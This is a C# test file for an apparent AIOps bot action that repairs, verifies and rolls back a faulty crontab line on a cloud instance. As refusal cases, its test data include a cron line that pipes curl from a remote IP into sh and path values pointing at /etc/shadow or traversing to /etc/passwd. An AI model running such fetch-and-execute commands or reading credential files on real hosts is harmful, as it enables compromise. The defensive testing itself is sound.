using System.Collections.Immutable;
using AiOps.Bot.Aws.Actions;
using AiOps.Bot.Core;
using AiOps.Bot.Core.Anomalies;
using AiOps.Bot.Core.Audit.Crontabs;
using AiOps.Bot.Core.Incidents;
using AiOps.Bot.Core.Investigations;
using AiOps.Bot.Core.Remediations;
using AiOps.Bot.Core.Telemetry;
using FsCheck;
using FsCheck.Fluent;

namespace AiOps.Bot.Tests.Aws;

public sealed class CrontabActionTests
{
    private const string GoodLine = "7 * * * * app /opt/app/export.sh";

    private static readonly CancellationToken None = CancellationToken.None;

    [Fact]
    public async Task TheWholeWayFromFaultToVerifiedAndBack()
    {
        var host = new FakeCronHost();
        var before = host.Content;
        var fix = Fix(host);
        var request = Bound(host);
        var plan = await PlanAsync(fix, request);
        var remediation = Remediation(request, plan);

        Assert.IsType<VerifyResult.Pending>(await fix.VerifyAsync(remediation, None));
        var done = Assert.IsType<RunResult.Done>(await fix.RunAsync(Approved(remediation), None));
        Assert.Contains("exit code 0", done.Detail, StringComparison.Ordinal);
        Assert.Equal(before.Replace("exprot", "export", StringComparison.Ordinal), host.Content);
        Assert.Equal(["AiOps-ReplaceCrontabLine", "AiOps-RunCrontabLine"], host.Commands);
        Assert.Contains("effect is back", Assert.IsType<VerifyResult.Verified>(await fix.VerifyAsync(remediation, None)).Detail, StringComparison.Ordinal);

        var restore = new RestoreCrontab(host.ReadAccount, host.ActionAccount);
        var undo = Remediation(plan.Inverse!, await PlanAsync(restore, plan.Inverse!));
        Assert.IsType<RunResult.Done>(await restore.RunAsync(Approved(undo), None));
        Assert.IsType<VerifyResult.Verified>(await restore.VerifyAsync(undo, None));
        Assert.Equal(before, host.Content);
    }

    [Fact]
    public async Task ThePlanShowsTheExactCallsAndTheLineBeforeAndAfter()
    {
        var host = new FakeCronHost();

        var plan = await PlanAsync(Fix(host), Bound(host));

        Assert.Equal(["AiOps-ReplaceCrontabLine", "AiOps-RunCrontabLine"], plan.Calls.Select(c => c.Parameters["DocumentName"]));
        Assert.Equal(host.Sha, plan.Calls[0].Parameters["ExpectedFileSha256"]);
        Assert.Equal(FakeCronHost.Digest(host.Content.Replace("exprot", "export", StringComparison.Ordinal)), plan.Calls[1].Parameters["ExpectedFileSha256"]);
        Assert.Contains("exprot.sh", plan.Impact, StringComparison.Ordinal);
        Assert.Contains(GoodLine, plan.Impact, StringComparison.Ordinal);
        Assert.Equal("cron.restore-file", plan.Inverse?.ActionId);
        Assert.Null(ActionCatalogue.FaultOf(new RestoreCrontab(host.ReadAccount, host.ActionAccount), plan.Inverse!));
        Assert.Empty(host.Commands);
    }

    [Theory]
    [InlineData("7 * * * * root curl http://203.0.113.9/x | sh")]
    [InlineData("7 * * * * app /opt/app/other.sh")]
    public async Task ALineThatTheLintDoesNotProposeIsNeverPlanned(string line)
    {
        var host = new FakeCronHost();
        var request = Bound(host) with { Parameters = Bound(host).Parameters.SetItem("newLine", line) };

        Assert.Contains("lint does not propose", Assert.IsType<PlanResult.Refused>(await Fix(host).PlanAsync(request, None)).Reason, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("path", "/etc/shadow")]
    [InlineData("path", "/etc/cron.d/../passwd")]
    [InlineData("newLine", "a\nb")]
    [InlineData("newLine", "a\u2028b")]
    [InlineData("line", "0")]
    [InlineData("fileSha256", "abc")]
    [InlineData("instance", "i-0aa11bb22cc33dd44 ")]
    [InlineData("effectGroup", "/a b")]
    public void AParameterThatIsNotOfItsPatternIsAFault(string name, string value)
    {
        var host = new FakeCronHost();

        Assert.NotNull(ActionCatalogue.FaultOf(Fix(host), Bound(host) with { Parameters = Bound(host).Parameters.SetItem(name, value) }));
    }

    [Fact]
    public async Task AFileThatChangedSinceIsRefused()
    {
        var host = new FakeCronHost();
        var request = Bound(host);
        host.Content += "# a remark\n";

        Assert.Contains("changed since", Assert.IsType<PlanResult.Refused>(await Fix(host).PlanAsync(request, None)).Reason, StringComparison.Ordinal);
    }

    [Fact]
    public async Task AnErrorOfTheSameProgramIsQuotedAsTheNextCause()
    {
        var host = new FakeCronHost { JobWrites = "Mar 14 12:00:01 h export[9]: ERROR: AccessDenied on rds:DownloadDBLogFilePortion" };
        var fix = Fix(host);
        var remediation = Remediation(Bound(host), await PlanAsync(fix, Bound(host)));

        await fix.RunAsync(Approved(remediation), None);

        Assert.Contains("rds:DownloadDBLogFilePortion", Assert.IsType<VerifyResult.Unverified>(await fix.VerifyAsync(remediation, None)).Detail, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("", typeof(VerifyResult.Verified))]
    [InlineData("AccessDenied", typeof(VerifyResult.Unverified))]
    public async Task AnEffectThatIsACallIsKnownByTheCallAndItsCaller(string errorCode, Type verdict)
    {
        var host = new FakeCronHost();
        var fix = Fix(host, new CallParser());
        var bound = Bound(host) with { Parameters = Bound(host).Parameters.SetItem("effectProgram", "rds.amazonaws.com").SetItem("effectTemplate", "Download arn:aws:sts::1:assumed-role/ops") };
        var remediation = Remediation(bound, await PlanAsync(fix, bound));
        host.Log.Add((Some.Noon.AddSeconds(1), "arn:aws:sts::1:assumed-role/other/i-2 AccessDenied"));
        Assert.IsType<VerifyResult.Pending>(await VerifyAfterRunAsync(fix, remediation, host));
        host.Log.Add((Some.Noon.AddSeconds(2), $"arn:aws:sts::1:assumed-role/ops/i-1 {errorCode}"));

        Assert.IsType(verdict, await fix.VerifyAsync(remediation, None));
    }

    [Fact]
    public async Task NeitherEffectNorErrorIsPending()
    {
        var host = new FakeCronHost { JobWrites = "Mar 14 12:00:01 h other[9]: ERROR: something else" };
        var fix = Fix(host);
        var remediation = Remediation(Bound(host), await PlanAsync(fix, Bound(host)));

        await fix.RunAsync(Approved(remediation), None);

        Assert.IsType<VerifyResult.Pending>(await fix.VerifyAsync(remediation, None));
    }

    [Fact]
    public async Task ARunOnAFileThatChangedMeanwhileFailsAndRunsNoJob()
    {
        var host = new FakeCronHost();
        var fix = Fix(host);
        var remediation = Remediation(Bound(host), await PlanAsync(fix, Bound(host)));
        host.Content += "# raced\n";

        Assert.IsType<RunResult.Failed>(await fix.RunAsync(Approved(remediation), None));
        Assert.Equal(["AiOps-ReplaceCrontabLine"], host.Commands);
    }

    [Fact]
    public async Task ARestoreThatWouldLoseSomebodysChangeIsRefused()
    {
        var host = new FakeCronHost();
        var fix = Fix(host);
        var plan = await PlanAsync(fix, Bound(host));
        await fix.RunAsync(Approved(Remediation(Bound(host), plan)), None);
        host.Content += "# by hand\n";

        var refused = await new RestoreCrontab(host.ReadAccount, host.ActionAccount).PlanAsync(plan.Inverse!, None);

        Assert.Contains("lose that change", Assert.IsType<PlanResult.Refused>(refused).Reason, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("a\nb\nc\n", 2, "x", "a\nx\nc\n")]
    [InlineData("a\nb", 2, "x", "a\nx\n")]
    [InlineData("a\r\nb\r\n", 1, "x", "x\nb\r\n")]
    [InlineData("a\n", 2, "x", null)]
    [InlineData("", 1, "x", null)]
    public void OneLineIsReplacedAndEveryOtherByteStays(string content, int line, string newLine, string? expected) =>
        Assert.Equal(expected, CrontabEdit.Replace(content, line, newLine));

    [Fact]
    public void ReplacingALineByItselfChangesNothing() => Prop.ForAll<NonEmptyArray<NonNull<string>>, PositiveInt>((lines, pick) =>
    {
        var texts = lines.Get.Select(l => l.Get.Replace("\n", "", StringComparison.Ordinal)).ToArray();
        var line = (pick.Get % texts.Length) + 1;
        var content = string.Concat(texts.Select(t => t + "\n"));
        return CrontabEdit.Replace(content, line, texts[line - 1]) == content;
    }).QuickCheckThrowOnFailure();

    private static FixCrontabLine Fix(FakeCronHost host, ILogParser? parser = null) => new(
        host.ReadAccount,
        host.ActionAccount,
        new CrontabFixPlanner(new CrontabLint()),
        new CrontabEffect(host.ReadAccount, parser ?? new SyslogishParser(), new FirstWord(), new HastyTime()));

    private static ActionRequest Bound(FakeCronHost host) => Fix(host).Bind(Fault(host), Ceased)!;

    private static Incident Ceased { get; } = Some.AwsIncident(AnomalyKinds.ActivityCeased, new Dictionary<string, string>
    {
        [AnomalyLabels.LogGroup] = "/ec2/syslog", [AnomalyLabels.LogStream] = Some.AwsInstance, [AnomalyLabels.Program] = "export", [AnomalyLabels.Template] = "exported",
    });

    private static Hypothesis Fault(FakeCronHost host) => new()
    {
        Kind = HypothesisKinds.CrontabFault,
        Title = "the crontab line has a fault",
        Entity = new ResourceId(Some.AwsInstance),
        Score = 0.9,
        Confidence = Confidence.VeryLikely,
        Supports = [new EvidenceId("E1")],
        Facts = ImmutableSortedDictionary.CreateRange(new Dictionary<string, string>
        {
            ["instance"] = Some.AwsInstance, ["path"] = FakeCronHost.Path, ["line"] = "2", ["fileSha256"] = host.Sha, ["suggestedLineText"] = GoodLine,
        }),
    };

    private static async Task<ActionPlan> PlanAsync(IAction action, ActionRequest request) => Assert.IsType<PlanResult.Planned>(await action.PlanAsync(request, None)).Plan;

    private static Remediation Remediation(ActionRequest request, ActionPlan plan) => Some.Remediation() with { Request = request, Plan = plan, Execution = Execution };

    private static ApprovedRemediation Approved(Remediation remediation) => new(remediation, Execution);

    private static Execution Execution { get; } = new() { IdempotencyKey = "key-1", StartedAt = Some.Noon };

    private static async Task<VerifyResult> VerifyAfterRunAsync(FixCrontabLine fix, Remediation remediation, FakeCronHost host)
    {
        await fix.RunAsync(Approved(remediation), None);
        host.Log.RemoveAll(l => l.Line == host.JobWrites);
        return await fix.VerifyAsync(remediation, None);
    }

    /// <summary>Lines that are a caller and an error code, as CloudTrail records of one call.</summary>
    private sealed class CallParser : ILogParser
    {
        public ParsedLog Parse(string line, DateTimeOffset reference)
        {
            var (who, error) = (line.Split(' ')[0], line.Split(' ')[1]);
            var fields = new Dictionary<string, string> { ["eventName"] = "Download", ["userIdentity.arn"] = who };
            if (error.Length > 0)
            {
                fields["errorCode"] = error;
            }

            return new() { Format = LogFormat.CloudTrail, Program = "rds.amazonaws.com", Content = line, Severity = error.Length > 0 ? LogSeverity.Warning : LogSeverity.Info, Fields = fields };
        }
    }

    private sealed class SyslogishParser : ILogParser
    {
        public ParsedLog Parse(string line, DateTimeOffset reference)
        {
            var colon = line.IndexOf("]: ", StringComparison.Ordinal);
            return new()
            {
                Format = LogFormat.Syslog,
                Program = line[..colon].Split(' ')[^1].Split('[')[0],
                Content = line[(colon + 3)..],
                Severity = line.Contains("ERROR", StringComparison.Ordinal) ? LogSeverity.Error : LogSeverity.Info,
            };
        }
    }

    private sealed class FirstWord : ILogTemplates
    {
        public string MaskOf(string message) => message.Split(' ')[0];
    }
}
